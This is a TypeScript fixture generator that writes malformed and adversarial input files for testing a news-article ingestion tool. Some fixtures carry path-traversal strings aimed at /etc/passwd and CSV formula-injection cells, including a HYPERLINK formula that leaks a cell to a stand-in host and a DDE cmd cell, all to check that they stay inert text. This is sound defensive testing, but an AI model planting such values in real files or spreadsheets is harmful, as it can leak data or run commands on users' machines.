// Writes fixtures/bad/: one small file per way an input folder can go wrong, and expected.json with
// the outcome each must end in ("ok" or the skip code of README.md). The big inputs (a 200 KB
// paragraph, 10,000 numbers, regex-backtracking bait) are not committed: tests call `bigInputs()`
// and write them into a temp folder. Run: `node_modules/.bin/tsx scripts/make-bad-inputs.ts`.
import { mkdir, readdir, rm, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { pathToFileURL } from "node:url";

export type Outcome = "ok" | "EMPTY" | "BINARY" | "DECODE" | "TOO_LARGE" | "BAD_META" | "NOT_ARTICLE" | "DUPLICATE" | "UNSUPPORTED";

export interface BadInput {
  readonly file: string;
  readonly bytes: Uint8Array;
  /** What the file must end as; null for a sidecar whose article carries the outcome. */
  readonly expect: Outcome | null;
}

/** The committed suite runs with this --max-bytes, so that too-large.txt stays small in git. */
export const BAD_MAX_BYTES = 16_384;
export const BAD_DIR = join(import.meta.dirname, "../fixtures/bad");

const utf8 = (s: string) => new TextEncoder().encode(s);
const bytes = (...parts: Array<number[] | Uint8Array | string>) =>
  Uint8Array.from(parts.flatMap((p) => (typeof p === "string" ? [...utf8(p)] : [...p])));
const json = (v: unknown) => utf8(`${JSON.stringify(v, null, 2)}\n`);

const ARTICLE = `Drones strike Kharkiv as talks stall

KHARKIV, Ukraine — 9 July 2025

Russia launched 52 drones at Kharkiv overnight, the regional governor said.
Air defences shot down 40 of them, according to the air force.
`;

/** An article with the given first body sentence, so that no two committed files share bytes by accident. */
const article = (lead: string) => `${ARTICLE}\n${lead}\n`;

const cp1252 = (s: string) => {
  const map: Record<string, number> = { "“": 0x93, "”": 0x94, "‘": 0x91, "’": 0x92, "–": 0x96, "—": 0x97, "é": 0xe9, "…": 0x85 };
  return Uint8Array.from([...s].map((c) => map[c] ?? c.charCodeAt(0)));
};

export function committedInputs(): BadInput[] {
  const menu = "Home\nWorld\nNews\n• 4 min read\nShare\nSubscribe to our newsletter\nAdvertisement\n© 2025 Kyiv Ledger\n";
  const dup = utf8(article("Officials said 3 people were injured in the city."));
  return [
    { file: "empty.txt", bytes: new Uint8Array(), expect: "EMPTY" },
    { file: "bom-only.txt", bytes: bytes([0xef, 0xbb, 0xbf]), expect: "EMPTY" },
    { file: "binary-png.txt", bytes: bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d], "IHDR", [0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0]), expect: "BINARY" },
    { file: "binary-zip.txt", bytes: bytes("PK", [3, 4, 0x14, 0, 0, 0, 8, 0], "word/document.xml", [0, 0, 0, 0]), expect: "BINARY" },
    { file: "control-binary.txt", bytes: bytes([0x80, 0x81], Array.from({ length: 64 }, (_, i) => (i % 7) + 1), " drones"), expect: "BINARY" },
    { file: "utf8-bom.txt", bytes: bytes([0xef, 0xbb, 0xbf], article("Київ: officials said 2 people were hurt.")), expect: "ok" },
    { file: "utf16le-bom.txt", bytes: bytes([0xff, 0xfe], Buffer.from(article("Одеса: the port was hit by 4 drones."), "utf16le")), expect: "ok" },
    { file: "utf16be-bom.txt", bytes: bytes([0xfe, 0xff], Buffer.from(article("Lviv: 5 drones were jammed."), "utf16le").swap16()), expect: "ok" },
    { file: "windows-1252.txt", bytes: cp1252(article("“It was a hard night,” the mayor said – café windows shattered…")), expect: "ok" },
    { file: "utf8-bom-invalid.txt", bytes: bytes([0xef, 0xbb, 0xbf], "Russia launched 12 drones ", [0xc3, 0x28, 0xff], " overnight.\n"), expect: "DECODE" },
    { file: "utf16le-bom-odd.txt", bytes: bytes([0xff, 0xfe], Buffer.from("Russia launched 12 drones.", "utf16le"), [0x41]), expect: "DECODE" },
    { file: "whitespace-only.txt", bytes: utf8(" \n\t\n\u00a0\n\n"), expect: "NOT_ARTICLE" },
    { file: "menu-only.txt", bytes: utf8(menu), expect: "NOT_ARTICLE" },
    { file: "html-page.txt", bytes: utf8(HTML_PAGE), expect: "ok" },
    { file: "html-fragment.html", bytes: utf8(`<article><h1>Odesa port hit overnight</h1><p>Russia launched 18 drones at Odesa overnight, the navy said.<p>Two people were injured.</article>`), expect: "ok" },
    { file: "html-menu-only.htm", bytes: utf8(`<!doctype html><html><head><title>Kyiv Ledger</title></head><body><header>Kyiv Ledger</header><nav><a>Home</a> <a>World</a></nav><footer>© 2025</footer></body></html>`), expect: "NOT_ARTICLE" },
    { file: "too-large.txt", bytes: utf8(ARTICLE + "Officials said the sirens lasted for hours. ".repeat(420)), expect: "TOO_LARGE" },
    { file: "not-an-article.pdf", bytes: utf8("%PDF-1.4\n%%EOF\n"), expect: "UNSUPPORTED" },
    { file: "orphan.meta.json", bytes: json({ outlet: "Nobody's Article" }), expect: "UNSUPPORTED" },
    { file: "sidecar-bad-json.txt", bytes: utf8(article("The bad-JSON sidecar belongs to this one.")), expect: "BAD_META" },
    { file: "sidecar-bad-json.meta.json", bytes: utf8('{ published: "2025-07-09", }\n'), expect: null },
    { file: "sidecar-wrong-type.txt", bytes: utf8(article("The wrong-type sidecar belongs to this one.")), expect: "BAD_META" },
    { file: "sidecar-wrong-type.meta.json", bytes: json({ published: 20250709, outlet: ["Kyiv Ledger"] }), expect: null },
    { file: "sidecar-impossible-date.txt", bytes: utf8(article("The impossible-date sidecar belongs to this one.")), expect: "BAD_META" },
    { file: "sidecar-impossible-date.meta.json", bytes: json({ published: "2025-02-30" }), expect: null },
    { file: "sidecar-unknown-key.txt", bytes: utf8(article("The typo sidecar belongs to this one.")), expect: "BAD_META" },
    { file: "sidecar-unknown-key.meta.json", bytes: json({ publised: "2025-07-09", outlet: "Kyiv Ledger" }), expect: null },
    { file: "sidecar-path-tricks.txt", bytes: utf8(article("Its sidecar names paths, which stay text.")), expect: "ok" },
    {
      file: "sidecar-path-tricks.meta.json",
      bytes: json({ published: "2025-07-09", outlet: "../../etc", headline: "../../etc/passwd", url: "file:///etc/passwd", author: "..\\..\\Windows\\System32" }),
      expect: null,
    },
    { file: "duplicate-a.txt", bytes: dup, expect: "ok" },
    { file: "duplicate-b.txt", bytes: dup, expect: "DUPLICATE" },
    { file: "formula-prefixes.txt", bytes: utf8(FORMULAS), expect: "ok" },
    {
      file: "formula-prefixes.meta.json",
      bytes: json({ published: "2025-07-09", outlet: "@Kyiv Ledger", headline: '=HYPERLINK("http://example.invalid","drones")', author: "+Olena Marchuk", url: "-1+2" }),
      expect: null,
    },
    { file: "control-chars.txt", bytes: utf8(article("Russia launched 14\u0007 drones at Sumy overnight,\u001b[31m the governor said.\u000b\u000c\u007f")), expect: "ok" },
    { file: "rtl-marks.txt", bytes: utf8(article("\u200fRussia launched \u202e61\u202c drones at \u2067Kherson\u2069 overnight, the governor said \u200b\u200e(مسيّرة / רחפן).")), expect: "ok" },
    { file: "expected.json", bytes: new Uint8Array(), expect: "UNSUPPORTED" }, // this suite's own answer key: not an article
  ];
}

const HTML_PAGE = `<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Drones hit Dnipro | Dnipro Evening</title>
<style>p { color: red }</style><script>document.write("<p>Russia launched 999 drones</p>")</script></head>
<body><header><a href="/">Dnipro Evening</a><nav><ul><li>Home</li><li>World</li><li>Politics</li></ul></nav></header>
<main><article><h1>Drones hit Dnipro overnight</h1><p class="byline">By Taras Koval</p>
<p>DNIPRO, Ukraine — 9 July 2025</p>
<p>Russia launched 27 drones at Dnipro overnight, the regional governor said.
Air defences shot down 21 of them &amp; three struck a warehouse.</p>
<aside>Read more: last week's attacks</aside></article></main>
<footer>© 2025 Dnipro Evening. All rights reserved.</footer></body></html>
`;

// Cells that a spreadsheet would run as formulas if a CSV writer passed them through.
const FORMULAS = `=HYPERLINK("http://example.invalid/?leak="&A1,"Click for details")

ZAPORIZHZHIA, Ukraine — 9 July 2025

=1+1 Russia launched 50 drones overnight, the governor said.
+380 drones were reported in the region during the week, officials said.
-12 drones were jammed, according to the air force.
@SUM(A1:A9) Air defences shot down 31 of them, the military said.
"=2+5 drones struck the city," the mayor said, adding that 4 people were injured.
\t=cmd|' /C calc'!A0 Officials said 2 people were killed.
`;

/** Big inputs, generated at test time. `scale` 0.5 halves each one, to check that time grows about linearly. */
export function bigInputs(scale = 1): BadInput[] {
  const n = (count: number) => Math.round(count * scale);
  const sentences = [
    "Russia launched 12 drones at Kharkiv overnight, the air force said.",
    "Air defences shot down at least 40 of them over Kyiv.",
    "Officials said about 3 people were injured in Odesa on Sunday.",
    "Moscow's defence ministry claimed it intercepted 57 Ukrainian drones.",
    "Dozens of buildings were damaged, according to the regional governor.",
  ];
  let paragraph = "";
  for (let i = 0; paragraph.length < 200_000 * scale; i++) paragraph += `${sentences[i % sentences.length]} `;
  const numbers = Array.from({ length: n(10_000) }, (_, i) => String((i * 37) % 1000)).join(", ");
  const oneSentence = Array.from({ length: n(1000) }, (_, i) => `Russia launched ${(i % 90) + 10} drones at Kharkiv overnight and officials said air defences shot down ${i % 50} of them`).join(", ");
  return [
    { file: "long-line.txt", bytes: utf8(`Kharkiv attacked again\n\n${paragraph.trimEnd()}\n`), expect: "ok" },
    { file: "long-sentence.txt", bytes: utf8(`Kharkiv attacked again\n\n${oneSentence}.\n`), expect: "ok" },
    { file: "many-numbers.txt", bytes: utf8(`Numbers of the year\n\nRussia launched drones in waves of ${numbers} over the year, the air force said.\n`), expect: "ok" },
    { file: "bait-drones-and.txt", bytes: utf8(`Bait\n\nRussia launched ${"drones and ".repeat(n(50_000))}missiles overnight.\n`), expect: "ok" },
    { file: "bait-hedges.txt", bytes: utf8(`Bait\n\nRussia launched ${"at least up to nearly about more than some ".repeat(n(5_000))}50 drones overnight.\n`), expect: "ok" },
    { file: "bait-nested.html", bytes: utf8(`<!doctype html><body>${"<div><b>".repeat(n(20_000))}<p>Russia launched 50 drones at Lviv overnight, the governor said.</p></body>`), expect: "ok" },
  ];
}

/** expected.json: file → outcome, and which article each sidecar belongs to (its outcome is the article's row). */
export function expectedJson(inputs: readonly BadInput[]) {
  return {
    description: "Bad-input suite: every file must end in sources.csv as ok or skipped with this code. Run with --max-bytes " + BAD_MAX_BYTES + ". Made by scripts/make-bad-inputs.ts.",
    maxBytes: BAD_MAX_BYTES,
    files: Object.fromEntries(inputs.filter((i) => i.expect !== null).map((i) => [i.file, i.expect])),
    sidecars: Object.fromEntries(inputs.filter((i) => i.expect === null).map((i) => [i.file, i.file.replace(/\.meta\.json$/, ".txt")])),
  };
}

async function main(): Promise<void> {
  const inputs = committedInputs();
  await mkdir(BAD_DIR, { recursive: true });
  for (const name of await readdir(BAD_DIR)) await rm(join(BAD_DIR, name), { recursive: true, force: true });
  for (const i of inputs) if (i.file !== "expected.json") await writeFile(join(BAD_DIR, i.file), i.bytes);
  await writeFile(join(BAD_DIR, "expected.json"), json(expectedJson(inputs)));
  const total = inputs.reduce((n, i) => n + i.bytes.length, 0);
  console.log(`wrote ${inputs.length} files (${total} bytes) to ${BAD_DIR}`);
}

if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) await main();
